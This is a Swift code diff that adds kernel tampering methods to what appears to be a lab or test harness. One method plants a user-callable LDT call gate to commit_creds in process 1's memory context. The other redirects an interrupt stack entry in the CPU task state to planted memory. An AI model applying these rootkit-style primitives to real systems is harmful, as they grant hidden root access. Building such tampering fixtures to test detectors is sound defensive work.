@@ -142,6 +142,36 @@ extension Tampering {
     try apply(changes)
   }
 
+  /// Gives process 1 segments of its own, and among them a gate, as modify_ldt never does, to a function of the kernel's.
+  ///
+  /// Source: `struct ldt_struct`, arch/x86/include/asm/mmu_context.h (Linux v5.10 to v7.2).
+  package func addGateAmongSegmentsOfProgram() throws(LabError) {
+    let page = try plantUnownedPage()
+    let types = try types()
+    let target = try system.symbol("commit_creds")
+    let (record, table) = (page.address + 0x800, page.address + 0x840)
+    let first = try word(at: system.symbol("init_task") + types.offset("task_struct", "tasks"))
+    let memory = try word(at: first - types.offset("task_struct", "tasks") + types.offset("task_struct", "mm"))
+    guard memory != 0 else { throw LabError("\(system.kernel): the first process has no memory") }
+    var changes = WordChanges(self)
+    changes.store(target & 0xffff | 0x10 << 16 | 0xec00 << 32 | (target >> 16 & 0xffff) << 48, at: table)
+    changes.store(target >> 32, at: table + 8)
+    changes.store(table, at: record + (try types.offset("ldt_struct", "entries")))
+    changes.store(2, at: record + (try types.offset("ldt_struct", "nr_entries")))
+    changes.store(record, at: memory + (try types.offset("mm_struct", "context.ldt")))
+    try apply(changes)
+  }
+
+  /// Has the first processor's task state name memory of ours as a stack that no gate asks for: `struct x86_hw_tss`,
+  /// arch/x86/include/asm/processor.h (Linux v5.10 to v7.2).
+  package func nameOtherStack() throws(LabError) {
+    let page = try plantUnownedPage()
+    let types = try types()
+    let state = try system.symbol("cpu_tss_rw") &+ word(at: system.symbol("__per_cpu_offset"))
+    let place = state + (try types.offset("tss_struct", "x86_tss")) + (try types.offset("x86_hw_tss", "ist")) + 6 * 8
+    try patch((0..<8).map { UInt8(truncatingIfNeeded: (page.address + 0xff0) >> UInt64($0 * 8)) }, at: place)
+  }
+
   /// Registers a character device of ours: `struct char_device_struct`, fs/char_dev.c.
   package func addCharacterDevice() throws(LabError) {
     let page = try plantUnownedPage()
